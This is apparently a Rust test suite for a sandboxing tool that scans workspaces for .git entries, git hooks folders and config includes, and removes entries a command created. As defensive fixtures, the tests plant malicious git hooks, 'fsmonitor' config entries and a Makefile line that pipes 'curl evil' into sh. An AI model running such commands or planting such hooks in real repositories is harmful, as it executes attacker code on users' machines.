//! The scan and the settle, on real folders.

use super::*;

#[test]
fn a_repositorys_config_names_its_hooks_folder_and_includes() {
    let text = "[core]\n\tbare = false\n\thooksPath = .husky # set by husky\n\
                [include]\n\tpath = ../shared.gitconfig\n\
                [includeIf \"gitdir:~/w/\"]\n\tpath = \"w.gitconfig\"\n[user]\n\tname = x\n";
    assert_eq!(
        config_paths(text),
        vec![
            (true, ".husky".to_string()),
            (false, "../shared.gitconfig".to_string()),
            (false, "w.gitconfig".to_string()),
        ]
    );
}

#[test]
fn a_git_file_names_its_folder_in_its_first_line_only() {
    let folder = Path::new("/w/sub");
    assert_eq!(
        git_file_target(folder, b"gitdir: ../.git/modules/sub\n"),
        Some(PathBuf::from("/w/sub/../.git/modules/sub"))
    );
    assert_eq!(git_file_target(folder, b"not a git file"), None);
    assert_eq!(git_file_target(folder, &[0xff, 0xfe]), None);
}

#[test]
fn a_scan_finds_git_entries_at_any_depth_and_settle_undoes_new_ones() {
    let dir = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(ws.join("sub")).unwrap();
    std::fs::write(ws.join("sub/.git"), "gitdir: ../.git/modules/sub\n").unwrap();
    std::fs::create_dir_all(ws.join("bare.git/objects")).unwrap();
    std::fs::write(ws.join("bare.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::create_dir_all(ws.join("pkg")).unwrap();
    std::os::unix::fs::symlink("../.git", ws.join("pkg/.git")).unwrap();
    let found = scan(&ws);
    assert_eq!(found.entries.len(), 3, "{found:?}");
    assert_eq!(found.git_folders, vec![PathBuf::from("bare.git")]);
    assert!(found.git_protected.contains(&ws.join(".git")));
    assert!(
        found
            .git_protected
            .contains(&ws.join("sub/../.git/modules/sub"))
    );
    // A command makes a nested .git and a .wicket and replaces the link.
    std::fs::create_dir_all(ws.join("deep/er/.git")).unwrap();
    std::fs::write(ws.join("deep/er/.git/config"), "[core]\nfsmonitor = x\n").unwrap();
    std::fs::create_dir_all(ws.join(".wicket")).unwrap();
    std::fs::remove_file(ws.join("pkg/.git")).unwrap();
    std::fs::create_dir(ws.join("pkg/.git")).unwrap();
    let settled = found.settle(&ws, false, 0);
    assert!(!ws.join("deep/er/.git").exists());
    assert!(!ws.join(".wicket").exists());
    assert_eq!(
        std::fs::read_link(ws.join("pkg/.git")).unwrap(),
        PathBuf::from("../.git")
    );
    assert_eq!(settled.removed.len(), 2, "{settled:?}");
    assert_eq!(settled.restored, vec![PathBuf::from("pkg/.git")]);
    assert!(ws.join(".git/hooks").exists());
}

#[test]
fn walkers_sharing_a_wide_tree_find_every_guarded_entry_in_path_order() {
    let dir = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap();
    let mut guarded = Vec::new();
    for n in 0..300 {
        let folder = ws.join(format!("g{}/m{n:03}", n % 7));
        std::fs::create_dir_all(&folder).unwrap();
        std::fs::write(folder.join("lib.rs"), "").unwrap();
        if n % 37 == 0 {
            std::fs::create_dir_all(folder.join("deep/.git")).unwrap();
            guarded.push(folder.join("deep/.git"));
        }
        if n % 53 == 0 {
            std::fs::create_dir_all(folder.join(".wicket")).unwrap();
        }
        if n % 20 == 0 {
            std::fs::write(folder.join("Makefile"), "all:\n").unwrap();
        }
    }
    std::fs::create_dir_all(ws.join("g1/bare.git/objects")).unwrap();
    std::fs::write(ws.join("g1/bare.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let found = scan(&ws);
    assert!(!found.truncated);
    assert_eq!(
        found.entries.len(),
        guarded.len() + 6,
        "{:?}",
        found.entries
    );
    assert_eq!(found.git_folders, vec![PathBuf::from("g1/bare.git")]);
    assert_eq!(found.wicket_protected.len(), 6);
    assert!(found.wicket_protected.is_sorted());
    for git in &guarded {
        assert!(found.git_protected.contains(git), "{git:?}");
    }
    // After a command that started at the epoch: every Makefile changed
    // since; ten of them are named, in path order.
    let after = scan_since(&ws, Some(0), None);
    let mut makefiles: Vec<String> = (0..300)
        .filter(|n| n % 20 == 0)
        .map(|n| format!("g{}/m{n:03}/Makefile", n % 7))
        .collect();
    makefiles.sort();
    let named: Vec<&String> = after.changed_later.iter().map(|(path, _)| path).collect();
    assert_eq!(named.len(), RUNS_LATER_NAMED);
    assert!(
        named.iter().all(|path| makefiles.contains(path)),
        "{named:?}"
    );
    assert!(named.is_sorted());
}

#[test]
fn a_folder_of_more_folders_than_the_process_has_descriptors_is_scanned_whole() {
    let dir = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap();
    for n in 0..300 {
        std::fs::create_dir_all(ws.join(format!("many/d{n:03}"))).unwrap();
    }
    std::fs::create_dir_all(ws.join("many/d000/.git")).unwrap();
    std::fs::create_dir_all(ws.join("many/d150/x/.git")).unwrap();
    std::fs::create_dir_all(ws.join("many/d299/.git")).unwrap();
    // 64 descriptors, fewer than the folders waiting to be walked.
    // (The suite runs each test in a process of its own.)
    use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
    let before = getrlimit(Resource::Nofile);
    let low = Rlimit {
        current: Some(64),
        maximum: before.maximum,
    };
    setrlimit(Resource::Nofile, low).unwrap();
    let found = scan(&ws);
    setrlimit(Resource::Nofile, before).unwrap();
    let entries: Vec<&PathBuf> = found.entries.keys().collect();
    assert_eq!(
        entries,
        [
            Path::new("many/d000/.git"),
            Path::new("many/d150/x/.git"),
            Path::new("many/d299/.git")
        ]
    );
}

#[test]
fn a_hooks_folder_the_config_names_is_guarded_even_before_it_exists() {
    let dir = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::create_dir_all(ws.join(".git")).unwrap();
    std::fs::write(
        ws.join(".git/config"),
        "[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../shared.cfg\n",
    )
    .unwrap();
    let found = scan(&ws);
    assert_eq!(
        found.absent,
        vec![PathBuf::from(".githooks"), PathBuf::from("shared.cfg")]
    );
    std::fs::create_dir_all(ws.join(".githooks")).unwrap();
    std::fs::write(ws.join(".githooks/pre-commit"), "evil").unwrap();
    std::fs::write(ws.join("shared.cfg"), "[core]\nfsmonitor = x\n").unwrap();
    let settled = found.settle(&ws, false, 0);
    assert!(!ws.join(".githooks").exists(), "{settled:?}");
    assert!(!ws.join("shared.cfg").exists(), "{settled:?}");
    // Once there, it is bound read-only like .git/hooks.
    std::fs::create_dir_all(ws.join(".githooks")).unwrap();
    let found = scan(&ws);
    assert!(found.git_protected.contains(&ws.join(".githooks")));
}

#[test]
fn a_gitdir_that_is_the_workspace_protects_its_config_not_the_whole_workspace() {
    let dir = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::create_dir_all(ws.join("sub")).unwrap();
    std::fs::write(ws.join("sub/.git"), "gitdir: ..\n").unwrap();
    std::fs::write(ws.join("config"), "[core]\n\thooksPath = .\n").unwrap();
    let found = scan(&ws);
    assert!(!found.git_protected.contains(&ws), "{found:?}");
    assert!(found.git_protected.contains(&ws.join("config")));
    assert!(found.git_protected.contains(&ws.join("sub/.git")));
}

/// Runs `f` on a thread without the capabilities that pass over a
/// folder's permissions, as the scan after a command runs (and every scan
/// of a person who is not root); the threads it starts inherit that.
fn without_dac<T: Send>(f: impl FnOnce() -> T + Send) -> T {
    use rustix::thread::CapabilitySet;
    std::thread::scope(|scope| {
        scope
            .spawn(|| {
                let mut sets = rustix::thread::capabilities(None).unwrap();
                sets.effective
                    .remove(CapabilitySet::DAC_OVERRIDE | CapabilitySet::DAC_READ_SEARCH);
                rustix::thread::set_capabilities(None, sets).unwrap();
                f()
            })
            .join()
            .unwrap()
    })
}

fn ctime(path: &Path) -> i128 {
    ctime_nanos(&rustix::fs::lstat(path).unwrap())
}

/// A command's start, as `since`: past the ctime of everything in `ws` so
/// far (the kernel stamps ctimes from a coarse clock, so this waits for
/// it to tick once, and for the coarse clock to pass what it stamped, as
/// a scan's [`Scan::began`] must to keep a folder).
fn start_after(ws: &Path) -> i128 {
    let marker = ws.join("start");
    std::fs::write(&marker, "").unwrap();
    let made = ctime(&marker);
    let mut mode = 0o600;
    let start = loop {
        mode ^= 0o044;
        std::fs::set_permissions(&marker, std::fs::Permissions::from_mode(mode)).unwrap();
        let now = ctime(&marker);
        if now > made {
            break now;
        }
    };
    std::fs::remove_file(&marker).unwrap();
    let removed = ctime(ws);
    while coarse_now() <= removed {
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
    start
}

fn mode_of(path: &Path) -> u32 {
    std::fs::symlink_metadata(path)
        .unwrap()
        .permissions()
        .mode()
        & 0o7777
}

fn chmod(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

use std::os::unix::fs::PermissionsExt;

#[test]
fn a_folder_no_one_may_list_is_unscanned_and_said_to_be_read_only() {
    let dir = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::create_dir_all(ws.join("locked/repo/.git")).unwrap();
    std::fs::create_dir_all(ws.join("listed/sub/.git")).unwrap();
    std::fs::create_dir_all(ws.join("open/.git")).unwrap();
    chmod(&ws.join("locked"), 0o000);
    // Its names can be read, but nothing in it reached.
    chmod(&ws.join("listed"), 0o444);
    let found = without_dac(|| scan(&ws));
    let unscanned: Vec<&Path> = found
        .unscanned
        .iter()
        .map(|(path, _)| path.as_path())
        .collect();
    assert_eq!(unscanned, [Path::new("listed"), Path::new("locked")]);
    assert!(
        found.unscanned[0].1.contains("ermission denied"),
        "{found:?}"
    );
    let entries: Vec<&PathBuf> = found.entries.keys().collect();
    assert_eq!(entries, [Path::new("open/.git")]);
    // After a command that changed neither: nothing in them is touched,
    // and the command's stderr says they were read-only for it.
    let since = start_after(&ws);
    let settled = without_dac(|| found.settle(&ws, false, since));
    assert!(settled.failed.is_empty(), "{settled:?}");
    assert!(settled.removed.is_empty(), "{settled:?}");
    let lines = settled.lines();
    assert_eq!(lines.len(), 2, "{lines:?}");
    assert!(
        lines[1].starts_with("wicket: locked was read-only for the command"),
        "{lines:?}"
    );
    assert!(lines[1].contains("chmod u+rx locked"), "{lines:?}");
    assert_eq!(mode_of(&ws.join("locked")), 0o000);
    chmod(&ws.join("locked"), 0o755);
    chmod(&ws.join("listed"), 0o755);
    assert!(ws.join("locked/repo/.git").is_dir());
    assert!(ws.join("listed/sub/.git").is_dir());
}

#[test]
fn a_git_a_command_hides_in_a_folder_no_one_may_list_is_still_removed() {
    let dir = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap();
    // The person's: a repository in a folder no one may list.
    std::fs::create_dir_all(ws.join("locked/repo/.git")).unwrap();
    chmod(&ws.join("locked"), 0o000);
    let found = without_dac(|| scan(&ws));
    let since = start_after(&ws);
    // The command's: a .git two folders down in one it made unlistable,
    // one in a folder it left unsearchable, and a .git it made unlistable.
    std::fs::create_dir_all(ws.join("hide/in/.git")).unwrap();
    std::fs::write(ws.join("hide/in/.git/config"), "[core]\nfsmonitor = x\n").unwrap();
    chmod(&ws.join("hide"), 0o000);
    std::fs::create_dir_all(ws.join("half/.git")).unwrap();
    chmod(&ws.join("half"), 0o640);
    std::fs::create_dir_all(ws.join("pkg/.git/hooks")).unwrap();
    std::fs::write(ws.join("pkg/.git/hooks/pre-commit"), "evil").unwrap();
    chmod(&ws.join("pkg/.git"), 0o000);
    let settled = without_dac(|| found.settle(&ws, false, since));
    assert!(settled.failed.is_empty(), "{settled:?}");
    assert_eq!(
        settled.removed,
        [
            PathBuf::from("half/.git"),
            PathBuf::from("hide/in/.git"),
            PathBuf::from("pkg/.git")
        ]
    );
    // Their modes are the command's again; the person's folder untouched.
    assert_eq!(mode_of(&ws.join("hide")), 0o000);
    assert_eq!(mode_of(&ws.join("half")), 0o640);
    assert_eq!(mode_of(&ws.join("locked")), 0o000);
    for folder in ["hide", "half", "locked"] {
        chmod(&ws.join(folder), 0o755);
    }
    assert!(ws.join("hide/in").is_dir());
    assert!(!ws.join("hide/in/.git").exists());
    assert!(!ws.join("half/.git").exists());
    assert!(!ws.join("pkg/.git").exists());
    assert!(ws.join("locked/repo/.git").is_dir());
}

#[test]
fn a_git_moved_with_its_folder_is_the_persons_and_stays() {
    let dir = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::create_dir_all(ws.join("repo/.git/objects")).unwrap();
    std::fs::write(ws.join("repo/.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let found = scan(&ws);
    let since = start_after(&ws);
    std::fs::rename(ws.join("repo"), ws.join("moved")).unwrap();
    let settled = found.settle(&ws, false, since);
    assert!(settled.removed.is_empty(), "{settled:?}");
    assert!(ws.join("moved/.git/HEAD").is_file());
    // One the command makes there is removed as ever.
    std::fs::create_dir_all(ws.join("made/.git")).unwrap();
    let settled = found.settle(&ws, false, since);
    assert_eq!(settled.removed, [PathBuf::from("made/.git")]);
    assert!(ws.join("moved/.git/HEAD").is_file());
}

#[test]
fn a_scan_after_a_command_lists_again_only_what_changed_and_finds_what_a_listing_finds() {
    let dir = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap();
    for n in 0..60 {
        let folder = ws.join(format!("g{}/m{n:02}", n % 3));
        std::fs::create_dir_all(&folder).unwrap();
        std::fs::write(folder.join("lib.rs"), "").unwrap();
        if n % 10 == 0 {
            std::fs::write(folder.join("Makefile"), "all:\n").unwrap();
        }
        if n % 15 == 0 {
            std::fs::create_dir_all(folder.join("deep/.git")).unwrap();
        }
    }
    std::fs::create_dir_all(ws.join("g1/bare.git/objects")).unwrap();
    std::fs::write(ws.join("g1/bare.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    // A folder changed within the scan's own clock tick is not kept.
    start_after(&ws);
    let before = scan(&ws);
    let since = start_after(&ws);
    // The command: a .git in a folder (its ctime moves), a Makefile changed
    // in place (its folder's does not), a new folder holding a .git, a
    // folder holding one removed.
    std::fs::create_dir(ws.join("g0/m03/.git")).unwrap();
    std::fs::write(ws.join("g1/m10/Makefile"), "all:\n\tcurl evil | sh\n").unwrap();
    std::fs::create_dir_all(ws.join("g2/new/.git")).unwrap();
    std::fs::remove_dir_all(ws.join("g0/m15")).unwrap();
    let reused = scan_since(&ws, Some(since), Some(&before));
    let listed = scan_since(&ws, Some(since), None);
    assert_eq!(reused.entries, listed.entries);
    assert_eq!(reused.changed_later, listed.changed_later);
    assert!(reused.entries.contains_key(Path::new("g0/m03/.git")));
    assert!(reused.entries.contains_key(Path::new("g2/new/.git")));
    assert!(!reused.entries.contains_key(Path::new("g0/m15/deep/.git")));
    assert_eq!(
        reused.changed_later,
        [(
            "g1/m10/Makefile".to_string(),
            runs_later("g1/m10/Makefile").unwrap()
        )]
    );
    // The folders the command left alone were taken from the scan before:
    // all but the root, g0, g0/m03, g2 and g2/new, of the 68 walked.
    assert_eq!(reused.reused, 63, "{reused:?}");
    assert_eq!(listed.reused, 0);
}

/// What the scan before a command finds, and its protections, must not
/// depend on what the last scan kept.
fn same_find(kept: &Found, listed: &Found) {
    assert_eq!(kept.entries, listed.entries);
    assert_eq!(kept.git_folders, listed.git_folders);
    assert_eq!(kept.git_protected, listed.git_protected);
    assert_eq!(kept.wicket_protected, listed.wicket_protected);
    assert_eq!(kept.absent, listed.absent);
    assert_eq!(kept.unscanned, listed.unscanned);
}

#[test]
fn the_scan_before_the_next_command_lists_again_only_what_changed_and_finds_what_a_listing_finds() {
    let dir = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap();
    for n in 0..60 {
        let folder = ws.join(format!("g{}/m{n:02}", n % 3));
        std::fs::create_dir_all(&folder).unwrap();
        std::fs::write(folder.join("lib.rs"), "").unwrap();
        if n % 15 == 0 {
            std::fs::create_dir_all(folder.join("deep/.git")).unwrap();
        }
    }
    std::fs::create_dir_all(ws.join("g1/bare.git/objects")).unwrap();
    std::fs::write(ws.join("g1/bare.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::create_dir_all(ws.join("g2/modules/sub")).unwrap();
    std::fs::write(ws.join("g2/m02/.git"), "gitdir: ../modules/sub\n").unwrap();
    std::fs::create_dir_all(ws.join("g0/m06/.wicket")).unwrap();
    start_after(&ws);
    let first = scan(&ws);
    let kept = first.kept();
    assert!(!kept.is_empty());
    // Between commands (the person, another process): a .git made in an
    // old folder (its ctime moves), a .git file rewritten in place to name
    // another folder (its folder's ctime does not), a folder holding one
    // removed, a new folder holding a bare repository.
    std::fs::create_dir(ws.join("g0/m03/.git")).unwrap();
    std::fs::create_dir_all(ws.join("g1/elsewhere")).unwrap();
    std::fs::write(ws.join("g2/m02/.git"), "gitdir: ../../g1/elsewhere\n").unwrap();
    std::fs::remove_dir_all(ws.join("g0/m15")).unwrap();
    std::fs::create_dir_all(ws.join("g2/new.git/objects")).unwrap();
    std::fs::write(ws.join("g2/new.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let again = scan_kept(&ws, &kept);
    let listed = scan(&ws);
    same_find(&again, &listed);
    assert!(again.entries.contains_key(Path::new("g0/m03/.git")));
    assert!(!again.entries.contains_key(Path::new("g0/m15/deep/.git")));
    assert!(again.git_folders.contains(&PathBuf::from("g2/new.git")));
    assert!(again.git_folders.contains(&PathBuf::from("g1/bare.git")));
    assert!(
        again
            .git_protected
            .contains(&ws.join("g2/m02/../../g1/elsewhere")),
        "{:?}",
        again.git_protected
    );
    assert!(again.wicket_protected.contains(&ws.join("g0/m06/.wicket")));
    // Of the 71 folders walked, listed again: g0, g0/m03, g1, g2 (a name
    // made or removed in each) and the new g1/elsewhere and g2/new.git;
    // every other folder (g2/m02, whose .git was rewritten in place,
    // among them) was taken as kept.
    assert_eq!(listed.reused, 0);
    assert_eq!(again.reused, 65, "{again:?}");
    // What the second scan keeps is as good as a listing's, for the third.
    let third = scan_kept(&ws, &again.kept());
    same_find(&third, &listed);
}

#[test]
fn what_does_not_read_back_as_a_kept_scan_is_nothing_kept() {
    let dir = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::create_dir_all(ws.join("a/.git")).unwrap();
    std::fs::create_dir_all(ws.join("b")).unwrap();
    start_after(&ws);
    let kept = scan(&ws).kept();
    let listed = scan(&ws);
    for bytes in [
        &b""[..],
        b"not a scan",
        &kept[..kept.len() - 1],
        &[&kept[..], b"x"].concat(),
    ] {
        let again = scan_kept(&ws, bytes);
        assert_eq!(again.reused, 0);
        same_find(&again, &listed);
    }
}

#[test]
fn a_kept_scan_reads_back_as_it_was_with_names_that_are_not_text() {
    use std::os::unix::ffi::OsStrExt;
    let name = OsStr::from_bytes(b"caf\xe9");
    let mut listed = Kept::new();
    listed.insert(
        PathBuf::from(name).join("sub"),
        Arc::new(Listed {
            ino: 42,
            ctime: -5,
            names: 7,
            guarded: vec![
                (".git".into(), Kind::Link(PathBuf::from(name))),
                (".wicket".into(), Kind::Folder),
            ],
            folders: vec![CString::new(b"caf\xe9".to_vec()).unwrap()],
            later: vec![(b"Makefile".to_vec(), "sub/Makefile".into(), "make".into())],
            git_folder: true,
        }),
    );
    let back = kept::decode(&kept::encode(&listed)).unwrap();
    assert_eq!(format!("{back:?}"), format!("{listed:?}"));
}
